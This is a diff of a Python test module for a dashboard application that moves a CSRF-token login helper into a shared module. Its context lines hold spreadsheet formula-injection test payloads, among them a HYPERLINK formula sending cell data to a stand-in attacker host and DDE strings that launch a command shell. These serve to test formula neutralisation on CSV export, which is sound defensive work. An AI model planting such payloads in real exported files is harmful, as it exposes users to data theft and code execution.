@@ -30,10 +30,11 @@ from cxbridge.dashboards.security import allowed_hosts, host_name
 from cxbridge.lab.dashboard_bench import post_callback
 from cxbridge.platform.audit import read_events
 from cxbridge.platform.csv_export import neutralise_formulas
+from tests.dashboards.login_form import CSRF
+from tests.dashboards.login_form import log_in as form_log_in
 from tests.dashboards.world import OPEN_FIBRE, PII_CUSTOMER
 
 PASSWORD = "correct horse battery"
-CSRF = re.compile(r'name="csrf" value="([^"]+)"')
 FORMULAS = ('=HYPERLINK("http://evil.example?"&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
 
@@ -56,10 +57,8 @@ class Clock:
 
 
 def log_in(client, user: str, password: str = PASSWORD, next_path: str = "/"):
-    """Log in through the form as a browser does (its anti-forgery token included)."""
-    token = CSRF.search(client.get("/login").get_data(as_text=True)).group(1)
-    return client.post("/login", data={"username": user, "password": password, "csrf": token,
-                                       "next": next_path})
+    """Log in through the form, with this module's password unless another is given."""
+    return form_log_in(client, user, password, next_path)
 
 
 @pytest.fixture
